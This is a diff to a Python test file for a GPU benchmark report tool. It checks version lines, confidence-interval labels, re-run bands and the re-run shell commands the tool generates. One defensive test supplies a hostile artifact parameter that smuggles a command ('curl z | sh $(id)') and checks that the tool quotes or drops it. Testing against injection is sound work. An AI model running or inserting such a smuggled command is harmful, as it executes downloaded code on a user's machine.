@@ -63,10 +63,9 @@ def test_the_committed_bench_run_fits_one_screen(bench: str) -> None:
     assert "To fit one screen" not in bench and "Report cut" not in bench  # it fits whole, nothing left out
     # What stays in the artifact and the bundle: raw rounds, collect_env's other sections, JSON, scripts.
     assert "Raw times" not in bench and "```json" not in bench and "```python" not in bench
-    assert (
-        "Versions of relevant libraries:\n[pip3] botorch==0.18.1, gpytorch==1.15.2" in bench
-        and "torch==2.11.0" in bench
-    )
+    # The GPU stack's packages; the other 15 and the 13 nvidia-* wheels are in the artifact, and said so.
+    assert "Versions of relevant libraries:\n[pip3] numpy==2.5.2, torch==2.11.0, triton==3.6.0\n" in bench
+    assert "(and 13 nvidia-* wheels, 15 other packages: in the artifact)" in bench and "botorch" not in bench
     assert "OS: " not in bench and "CPU:" not in bench  # collect_env's library section only
     for d in _bench_docs(bench):
         assert _visible(bench, d).count("\n") <= 16, d  # a short section; the rest is one click away
@@ -89,7 +88,7 @@ def test_the_bench_report_renders_with_its_tables_and_details(bench: str) -> Non
 def test_the_identity_line_names_gpu_driver_stack_harness_and_date(bench: str, docs: list[dict[str, Any]]) -> None:
     line = bench.splitlines()[2]
     assert line == (
-        "NVIDIA H200, driver 580.159.04, torch 2.11.0+cu130 (CUDA 13.0, host), gpu-repro 0.1.0, "
+        "NVIDIA H200, driver 580.159.04, torch 2.11.0+cu130 (CUDA 13.0, container), gpu-repro 0.1.0, "
         "no source digest recorded, commit 680f57eaec77, 2026-11-30"
     )
     doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
@@ -110,7 +109,7 @@ def test_each_summary_row_says_its_own_ci_level(bench: str, docs: list[dict[str,
     solve = next(ln for ln in bench.splitlines() if ln.startswith("| solve-512-cliff |"))
     assert "9.55x (99.2% CI 9.51-9.59, worst of 6)" in solve  # Bonferroni over its 6 headline candidates
     assert "| 0.918x (95% CI 0.916-0.922) |" in bench  # decimals enough to tell the CI's ends apart
-    assert "_The CI covers this process on this GPU only; the re-run column is the spread" in bench
+    assert "_The CI covers this process on this GPU; the re-run column: the same headline on other GPUs" in bench
 
 
 def test_ci_label_reads_the_artifacts_level_and_its_comparisons() -> None:
@@ -133,7 +132,7 @@ def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[di
     solve = next(ln for ln in text.splitlines() if ln.startswith("| solve-512-cliff |"))
     assert solve.endswith("| ±10% over 3 GPUs |")
     line = next(ln for ln in _visible(text, "solve-512-cliff").splitlines() if ln.startswith("- Re-run elsewhere"))
-    assert "3 NVIDIA H200 GPUs read 9-11, ±10% of 10; this run 9.547, consistent." in line
+    assert "3 NVIDIA H200 GPUs read 9-11; this run 9.547, among them, within 2x their ±10% band: consistent." in line
     shipped = band.lookup(doc)
     assert shipped is not None and f"over {len(shipped.points)} GPUs |" in bench  # the shipped band by default
     bare = report([_by_id(docs, "solve-512-cliff")], bands=[])
@@ -188,17 +187,28 @@ def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dic
     section = _visible(_report([doc]), "graph-memset")
     assert "- Seed's experiment vs ours: The seed timed one replay of 1000 &lt;&lt;&lt;1,1&gt;&gt;&gt;" in section
     assert (
-        f"- The seed's program, re-run here: {SEED_ROW} 1.44x (95% CI 1.41-1.47) (reproduced), beside the "
-        "headline memset/fill (pure CUDA twin) 1.32x (95% CI 1.31-1.33)"
+        "- The seed's program, re-run here: 1.44x (95% CI 1.41-1.47) (reproduced); against the headline, the two "
+        "differ by +9.3%, beyond both CIs"
     ) in section
+    assert "**reproduced**: memset/fill (pure CUDA twin) was 1.32x (95% CI 1.31-1.33)" in section
 
 
 def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[dict[str, Any]]) -> None:
     assert "<org>" not in bench and "git clone" not in bench
     lines = _shell_lines(bench)
-    assert len(lines) == 10
-    for ln in lines:
-        assert ln.startswith(("# this run predates harness digests: harness 0.1.0, commit 680f57e", "repro run "))
+    # One install block (torch as recorded, cuda-bindings for graph-memset, the harness), then a line per repro.
+    assert (
+        len(lines) == 8
+        and lines[0] == "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"
+    )
+    for ln in lines[1:]:
+        assert ln.startswith(
+            (
+                "pip install 'cuda-bindings==13.*'",
+                "# this run predates harness digests: harness 0.1.0, commit 680f57e",
+                "repro run ",
+            )
+        )
     assert "repro run solve-512-cliff --set n_min=510 --set n_max=513 --set cliff_n=512 --set batches=16,64" in bench
     assert not [ln for ln in lines if "<" in ln or ">" in ln]  # no placeholder anywhere
 
@@ -214,13 +224,14 @@ def test_a_hostile_artifact_never_puts_its_shell_in_the_rerun(docs: list[dict[st
     lines = _shell_lines(text)
     wheel = f"gpu_repro-0.1.0+src.{'ab' * 6}-py3-none-any.whl"  # the version that failed its check is not used
     assert lines == [
+        "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130",
         f"pip install ./20261130T172037Z-c761fb/harness/{wheel}",
         "repro run 5090-linear --set 'batch=256; curl z | sh $(id)'",
     ]
-    assert shlex.split(lines[1])[-1] == "batch=256; curl z | sh $(id)"
+    assert shlex.split(lines[2])[-1] == "batch=256; curl z | sh $(id)"
     doc["repro"]["params"] = {"batch": "256\ncurl z | sh"}
     text = report([doc])
-    assert _shell_lines(text) == [] and "curl z" not in text
+    assert not [ln for ln in _shell_lines(text) if "repro run" in ln] and "curl z" not in text
     assert "- Re-run: not rebuilt here (a param in the artifact is not one a command can carry" in text
 
 
